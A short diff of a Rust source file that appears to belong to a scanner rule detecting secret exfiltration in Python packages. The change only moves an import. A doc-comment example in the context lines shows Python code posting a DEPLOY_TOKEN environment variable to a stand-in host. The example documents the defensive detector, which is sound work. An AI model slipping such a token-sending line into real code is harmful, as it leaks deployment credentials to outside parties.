@@ -26,11 +26,11 @@
 //!     return requests.post('http://x.example.invalid', json={'t': os.getenv('DEPLOY_TOKEN')})
 //! ```
 
-use fondaco_python::{Call, Role, Taint, Unit, Value};
+use fondaco_python::{Call, Role, Taint, Unit, Value, signs_in};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
 
 use super::secret_exfiltration::of;
-use crate::sending::{sent, signs_in};
+use crate::sending::sent;
 use crate::{Hits, Package, Rule};
 
 pub(crate) const RULE: Rule = Rule {
